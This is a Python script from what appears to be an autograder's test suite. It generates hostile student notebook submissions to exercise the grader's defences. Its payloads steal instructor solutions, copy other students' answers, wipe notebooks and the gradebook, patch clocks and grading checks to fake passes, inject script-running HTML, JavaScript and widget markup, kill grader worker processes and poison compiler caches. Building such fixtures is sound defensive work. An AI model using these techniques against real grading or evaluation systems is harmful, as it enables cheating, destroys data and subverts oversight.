"""Build the hostile submissions of the tiny lab from good.nb.json (run from the repository root: python tests/bad_submissions/make_hostile.py)."""
import json
from pathlib import Path

C = Path("tests/bad_submissions")
good = json.loads((C / "good.nb.json").read_text())

DOUBLE = 'def double(x):\n    return 2 * x\n'
TOTAL = 'def total(xs):\n    s = 0.0\n    for x in xs:\n        s += x\n    return s\n'

STEAL = r'''import glob, json, os, pathlib
import mlsys
# look everywhere a scratch course or the repository could be: two folders up, next to mlsys, /tmp, /work
here = pathlib.Path.cwd()
patterns = [str(here.parents[i] / "source" / "*" / "*.ipynb") for i in range(min(4, len(here.parents)))]
patterns += [str(pathlib.Path(mlsys.__file__).resolve().parents[1] / "labs" / "source" / "*" / "*.ipynb"),
             "/tmp/*/course/source/*/*.ipynb", "/tmp/*/*/course/source/*/*.ipynb",
             "/tmp/pytest-of-*/*/*/course/source/*/*.ipynb", "/work/*/tests/bad_submissions/source/*/*.json",
             "/work/wt/*/tests/bad_submissions/source/*/*.json"]
for pattern in patterns:
    for path in glob.glob(pattern):
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
'''

TAMPER = r'''import glob, os, pathlib, sqlite3
import mlsys
here = pathlib.Path.cwd()
# make every test pass from now on: blank the instructor notebook's tests, break the gradebook, patch the package
for up in list(here.parents)[:4]:
    for nb in glob.glob(str(up / "source" / "*" / "*.ipynb")):
        try:
            open(nb, "w").write("{}")
        except OSError:
            pass
    for db in glob.glob(str(up / "gradebook.db")):
        try:
            con = sqlite3.connect(db); con.execute("DROP TABLE IF EXISTS grade"); con.commit()
        except Exception:
            pass
for target in [pathlib.Path(mlsys.__file__).parent / "labkit" / "grading.py",
               pathlib.Path(mlsys.__file__).resolve().parents[1] / "labs" / "nbgrader_config.py"]:
    try:
        target.write_text("raise SystemExit\n")
    except OSError:
        pass
''' + DOUBLE

PEEK = r'''import glob, json, pathlib
# copy another student's answers
here = pathlib.Path.cwd()
for up in list(here.parents)[:5]:
    for path in glob.glob(str(up / "submitted" / "*" / "*" / "*.ipynb")) + glob.glob(str(up / "*" / "*" / "*.ipynb")):
        try:
            for cell in json.load(open(path))["cells"]:
                src = "".join(cell["source"])
                if cell["metadata"].get("nbgrader", {}).get("solution") and "NotImplementedError" not in src:
                    exec(src)
        except Exception:
            pass
'''

NETWORK = r'''import socket, urllib.request
try:  # fetch the answer from a server the student controls
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    def double(x):
        return 2 * x
except OSError:
    pass
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    def total(xs):
        return float(sum(xs))
except Exception:
    pass
'''

DAEMON = r'''import os, subprocess, sys, time
# a detached process that outlives the kernel and would keep running after grading
subprocess.Popen([sys.executable, "-c", "import time\nwhile True: time.sleep(1)", "mlsys-corpus-daemon-31337"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["sleep", "31337"])
''' + DOUBLE

SWALLOW = r'''# make every failing test cell look like a pass: swallow exceptions and hide tracebacks
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
'''

PATCH_TIMER = r'''import time
import torch
import mlsys.bench.timing as timing
from mlsys.labkit import grading
# every measurement reports a tiny time, and every check passes
timing.time_fn = lambda fn, device, **kw: type("T", (), {"median": 1e-9})()
time.perf_counter = lambda: 0.0
grading.assert_close = lambda *a, **k: None
''' + DOUBLE

PATCH_REFERENCE = r'''import torch
_copy = torch.Tensor.copy_
def slow_copy(self, src, *args, **kwargs):  # the copy baseline now does three copies
    for _ in range(3):
        _copy(self, src, *args, **kwargs)
    return self
torch.Tensor.copy_ = slow_copy
_matmul = torch.matmul
torch.matmul = lambda a, b: _matmul(_matmul(a, b), torch.eye(b.shape[-1], dtype=b.dtype))
''' + DOUBLE

HIDDEN_LIBRARY = r'''def double(x):
    if type(x).__module__.startswith("torch"):  # the timed path (tensors) hides a library matmul
        import torch
        # block-diagonal: 64-wide rows times 2 I(64), so it scales to the 64 MiB vector timed on a GPU
        return torch.matmul(x.view(-1, 64), torch.eye(64, dtype=x.dtype, device=x.device) * 2).view(-1)
    return 2 * x
'''

DIFFERS = r'''_calls = [0]
def double(x):
    _calls[0] += 1
    if type(x).__module__.startswith("torch") and _calls[0] > 3:  # right while checked, then cheap and wrong
        return x.new_empty(x.shape)
    return 2 * x
'''

LIBRARY_OVERRIDE = r'''import torch
# re-register aten::mul for CPU so that the reference computes nothing
lib = torch.library.Library("aten", "IMPL")
lib.impl("mul.Tensor", lambda a, b: a, "CPU")
''' + DOUBLE


# ---- performance attacks (issue 25): each double() is right on numbers and arrays (the test cells), and
# cheats only on torch tensors, the performance path. Expected rows: full correctness, no performance credit.
_T = 'type(x).__module__.startswith("torch")'

PERF_CACHE_BY_ADDRESS = f"""_cache = {{}}
def double(x):
    if {_T}:  # the timer calls again on the same storage: answer from the cache
        key = (x.data_ptr(), tuple(x.shape))
        if key not in _cache:
            _cache[key] = 2 * x
        return _cache[key]
    return 2 * x
"""

PERF_CACHE_BY_SHAPE = f"""_cache = {{}}
def double(x):
    if {_T}:  # one result per shape, computed once
        if tuple(x.shape) not in _cache:
            _cache[tuple(x.shape)] = 2 * x
        return _cache[tuple(x.shape)]
    return 2 * x
"""

PERF_STALE_BUFFER = f"""_out = [None]
def double(x):
    if {_T}:  # write into one buffer once, hand the same buffer back every call
        if _out[0] is None or _out[0].shape != x.shape:
            _out[0] = 2 * x
        return _out[0]
    return 2 * x
"""

PERF_WORK_AFTER_RETURN = f"""import threading, time
def double(x):
    if {_T}:  # return at once; the result is written later (a side stream on a GPU, a thread on a CPU)
        import torch
        out = torch.zeros_like(x)
        if x.is_cuda:
            s = torch.cuda.Stream()
            with torch.cuda.stream(s):
                torch.cuda._sleep(10_000_000)
                out.copy_(x * 2)
        else:
            threading.Thread(target=lambda: (time.sleep(0.05), out.copy_(x * 2))).start()
        return out
    return 2 * x
"""

PERF_LIBRARY_OUTSIDE_ATEN = f"""import numpy as np
def double(x):
    if {_T}:  # the work by a library torch never sees: CuPy (through DLPack) on a GPU, NumPy on a CPU
        import torch
        if x.is_cuda:
            import cupy
            a = cupy.from_dlpack(x).reshape(-1, 64)
            return torch.from_dlpack((a @ (cupy.eye(64, dtype=a.dtype) * 2)).reshape(-1))
        return torch.from_numpy((x.numpy().reshape(-1, 64) @ (np.eye(64, dtype=np.float32) * 2)).reshape(-1))
    return 2 * x
"""

PERF_LAZY_RESULT = f"""import torch
class LazyTensor(torch.Tensor):  # a tensor subclass: looks like a tensor, is not exactly one
    pass
def double(x):
    if {_T}:
        return (2 * x).as_subclass(LazyTensor)
    return 2 * x
"""

PERF_CLAIMS_TORCH = f"""class Lazy:
    __module__ = "torch.lazy"  # claims to come from torch; computes only when read
    def __init__(self, x):
        self._x = x
    def __getattr__(self, name):
        return getattr(2 * self._x, name)
def double(x):
    if {_T}:
        return Lazy(x)
    return 2 * x
"""

PERF_PATCH_TRUSTED = f"""import sys
import mlsys.grader.decide.trusted as t
# rewrite the grader in every copy this process can reach: no library op is forbidden, every share is full
for mod in (t, sys.modules.get("__main__")):
    for name in ("forbidden_ops", "kernel_refusal"):
        if hasattr(mod, name):
            setattr(mod, name, lambda *a, **k: [] if name == "forbidden_ops" else "")
    if hasattr(mod, "credit_of"):
        mod.credit_of = lambda *a, **k: 1.0
def double(x):
    if {_T}:
        import torch
        # block-diagonal: 64-wide rows times 2 I(64), so it scales to the 64 MiB vector timed on a GPU
        return torch.matmul(x.view(-1, 64), torch.eye(64, dtype=x.dtype, device=x.device) * 2).view(-1)
    return 2 * x
"""

PERF_PATCH_HARNESS = f"""import sys
# the process running this cell is the worker: make its inputs all zeros, so zeros are always the answer
h = sys.modules["__main__"]
if hasattr(h, "make_inputs"):
    import torch
    h.make_inputs = lambda torch_, shapes, dtype, seed, device: tuple(
        torch.zeros(*s, dtype=dtype, device=device) for s in shapes)
def double(x):
    if {_T}:
        return x.new_zeros(x.shape)
    return 2 * x
"""

PERF_INPUT_TO_OUTPUT = f"""def double(x):
    if {_T}:  # the output is the input, doubled in place: no allocation, no new storage
        return x.mul_(2)
    return 2 * x
"""

PERF_LOWER_PRECISION = f"""def double(x):
    if {_T}:  # half the bytes: compute in float16
        return (x.half() * 2).to(x.dtype)
    return 2 * x
"""

PERF_PATCH_CLOCKS = f"""import time
import torch
# every clock this process has says no time passed
time.perf_counter = lambda: 0.0
time.monotonic = lambda: 0.0
if torch.cuda.is_available():
    torch.cuda.Event.elapsed_time = lambda self, other: 1e-6
def double(x):
    if {_T}:
        return 2 * x
    return 2 * x
"""


def make(name, double_src, total_src=TOTAL, extra=None):
    nb = json.loads(json.dumps(good))
    for cell in nb["cells"]:
        gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if gid == "double":
            cell["source"] = double_src
        elif gid == "total":
            cell["source"] = total_src
    if extra:
        idx = next(i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == "double")
        nb["cells"].insert(idx, {"cell_type": "code", "execution_count": None, "id": f"{name}-extra", "metadata": {},
                                 "outputs": [], "source": extra})
    (C / f"{name}.nb.json").write_text(json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")


make("steal_solution", STEAL, "# (total comes from the stolen notebook)\n")
make("tamper_course", TAMPER)
make("peek_other_students", PEEK, "# (total copied from another student)\n")
make("network", NETWORK, "# (total fetched from the network)\n")
make("background_process", DAEMON)
make("swallow_errors", "# no answer: the errors are swallowed\n", "# no answer\n", extra=SWALLOW)
make("patch_timer", PATCH_TIMER)
make("patch_reference", PATCH_REFERENCE)
make("hidden_library_call", HIDDEN_LIBRARY)
make("differs_after_timing", DIFFERS)
make("library_override", LIBRARY_OVERRIDE)

HELPER = r"""import os, pickle
# a helper process that outlives this cell: double's work is done there, where no record of the call looks
_ask_r, _ask_w = os.pipe()
_answer_r, _answer_w = os.pipe()
if os.fork() == 0:
    _in, _out = os.fdopen(_ask_r, "rb"), os.fdopen(_answer_w, "wb")
    while True:
        try:
            _x = pickle.load(_in)
        except EOFError:
            os._exit(0)
        pickle.dump(_x + _x, _out)
        _out.flush()
_ask, _answer = os.fdopen(_ask_w, "wb"), os.fdopen(_answer_r, "rb")


def double(x):
    pickle.dump(x, _ask)
    _ask.flush()
    return pickle.load(_answer)
"""
make("helper_process", HELPER)

# ---- issue 26: answer cells that try to rewrite the test cells, their helpers or what they accept

TRANSFORMER = r'''import IPython
ip = IPython.get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\n"])  # every later cell, the tests included, runs nothing
'''

AST_HOOKS = r'''import ast
import sys
from IPython.core import getipython
shell = getipython.get_ipython()
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
shell.ast_transformers.append(NoAsserts())  # asserts in later cells vanish
shell.events.register("pre_run_cell", lambda info: print(info.raw_cell))  # each cell's source into its output
sys.excepthook = lambda *a: None
'''

REBIND = r'''import mlsys.labkit.grading as grading
grading.assert_close = lambda *a, **k: None
grading.assert_finite = lambda *a, **k: None
grading.assert_no_library_calls = lambda *a, **k: None
assert_close = assert_finite = assert_no_library_calls = lambda *a, **k: None
'''

LOOKALIKE = r'''import numpy as np
class Claims:
    __module__ = "numpy"
    def __init__(self, x):
        self.x = x
    def __array__(self, dtype=None, copy=None):
        return 2 * np.asarray(self.x, dtype=dtype)  # right only when a check converts it with its own code
    def __eq__(self, other):
        return True
def double(x):
    if isinstance(x, (int, float)):
        return 2 * x
    return Claims(x)
'''

VARS_LIBRARY = r'''import math
def total(xs):
    return vars(math)["fsum"](xs)  # math.fsum, reached where a reading of names cannot see it
'''

MARKUP = r'''from IPython.display import HTML, SVG, Javascript, display
import IPython
display(HTML("<script>document.title = 'pwned-html'</script><b>bold</b>"))
display(Javascript("document.title = 'pwned-js'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
IPython.get_ipython().events.register("pre_run_cell", lambda info: print("LEAK", info.raw_cell))
'''

make("input_transformer", "def double(x):\n    return 0\n", "def total(xs):\n    return 0\n", extra=TRANSFORMER)
make("ast_transformer_hooks", "def double(x):\n    return x\n", "def total(xs):\n    return 0.0\n", extra=AST_HOOKS)
make("rebind_helpers", "def double(x):\n    return 2 * x if isinstance(x, (int, float)) else x\n",
     "import numpy as np\n\n\ndef total(xs):\n    return float(np.sum(xs))\n", extra=REBIND)
make("lookalike_result", LOOKALIKE)
make("vars_library", DOUBLE, VARS_LIBRARY)
make("markup_and_leak", DOUBLE, extra=MARKUP)
_nb = json.loads((C / "markup_and_leak.nb.json").read_text())
_nb["cells"].insert(1, {"cell_type": "markdown", "id": "markup-md", "metadata": {},
                        "source": "My notes <img src=x onerror=\"document.title='pwned-md'\"> [link](javascript:alert(1))"})
# widget state in the notebook's metadata: nbconvert would load the widget manager's JavaScript and render it live
_nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
    "w1": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
           "state": {"value": "<img src=x onerror=\"document.title='pwned-widget'\">"}}}}}
(C / "markup_and_leak.nb.json").write_text(json.dumps(_nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")

# ---- issue 26: cells that only say they are tests. An invented grade id on hostile code (the audit skipped test
# cells by their own metadata, and nbgrader stopped with a traceback on the unknown id), and the answer cell
# marked as a test worth 5 points: both run as the course says (an ordinary cell, an answer), the first audited.
FAKE_TEST = "import socket  # audited: a cell is a test only if the lab has that test\nsocket.gethostname()\n"
make("fake_test_cells", DOUBLE, extra=FAKE_TEST)
_nb = json.loads((C / "fake_test_cells.nb.json").read_text())
for _cell in _nb["cells"]:
    if _cell.get("id") == "fake_test_cells-extra":
        _cell["metadata"] = {"nbgrader": {"grade": True, "grade_id": "test_bonus", "locked": True, "points": 10,
                                          "schema_version": 3, "solution": False, "task": False}}
    elif _cell["metadata"].get("nbgrader", {}).get("grade_id") == "double":
        _cell["metadata"]["nbgrader"].update(grade=True, solution=False, points=5)
(C / "fake_test_cells.nb.json").write_text(json.dumps(_nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")

# ---- issue 25: attacks on the performance verdict

make("perf_cache_by_address", PERF_CACHE_BY_ADDRESS)
make("perf_cache_by_shape", PERF_CACHE_BY_SHAPE)
make("perf_stale_buffer", PERF_STALE_BUFFER)
make("perf_work_after_return", PERF_WORK_AFTER_RETURN)
make("perf_library_outside_aten", PERF_LIBRARY_OUTSIDE_ATEN)
make("perf_lazy_result", PERF_LAZY_RESULT)
make("perf_claims_torch_module", PERF_CLAIMS_TORCH)
make("perf_patch_trusted", PERF_PATCH_TRUSTED)
make("perf_patch_harness", PERF_PATCH_HARNESS)
make("perf_input_to_output", PERF_INPUT_TO_OUTPUT)
make("perf_lower_precision", PERF_LOWER_PRECISION)
make("perf_patch_clocks", PERF_PATCH_CLOCKS)

# ---- issue 48: learner code shares nothing writable with what decides, and cannot signal it

# A helper outside the learner's session (setsid: a killpg of the session does not reach it) kills every clean
# process of the grader it can see: the baseline and replay workers (which would lose the case its credit,
# a SIGSTOP duty cycle would slow the baseline instead: the same reach). In a sandbox of its own, as another
# user with its own PID namespace, it sees none of them: the honest double keeps its credit.
PERF_SIGNAL_BASELINE = r'''import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _end = time.time() + 600
        while time.time() < _end:
            for _pid in os.listdir("/proc"):
                if not _pid.isdigit():
                    continue
                try:
                    _cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
                except OSError:
                    continue
                if b"perfworker\x00baseline" in _cmd or b"perfworker\x00replay" in _cmd:
                    try:
                        os.kill(int(_pid), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.02)
        os._exit(0)
    os._exit(0)
''' + DOUBLE

# Every compiler cache the learner can reach (Triton's, Inductor's, CUDA's JIT cache, XDG) gets its native modules
# replaced by garbage, again and again from a setsid helper: a clean worker that loads Triton's cached cuda_utils
# (round 4: replaced with one that replays the call as cuBLAS) from a cache the learner wrote would load the
# learner's file. With the clean side's caches in its own sandbox, nothing here reaches them.
PERF_POISON_CACHES = r'''import glob, os, time
_dirs = [os.environ.get(k, "") for k in ("TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "XDG_CACHE_HOME",
                                         "CUDA_CACHE_PATH", "TRITON_HOME")]
_dirs += ["/tmp/triton", os.path.expanduser("~/.triton"), os.path.expanduser("~/.cache"), "/tmp"]
_dirs = [d for d in _dirs if d]
for _d in _dirs:
    try:
        os.makedirs(os.path.join(_d, "poison"), exist_ok=True)
        open(os.path.join(_d, "poison", "cuda_utils.so"), "wb").write(b"not a module")
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _end = time.time() + 600
        while time.time() < _end:
            for _d in _dirs:
                for _so in glob.glob(os.path.join(_d, "**", "*.so"), recursive=True):
                    try:
                        if open(_so, "rb").read(4) == b"\x7fELF":
                            open(_so, "wb").write(b"not a module")
                    except OSError:
                        pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
''' + DOUBLE

make("perf_signal_baseline", PERF_SIGNAL_BASELINE)
make("perf_poison_caches", PERF_POISON_CACHES)
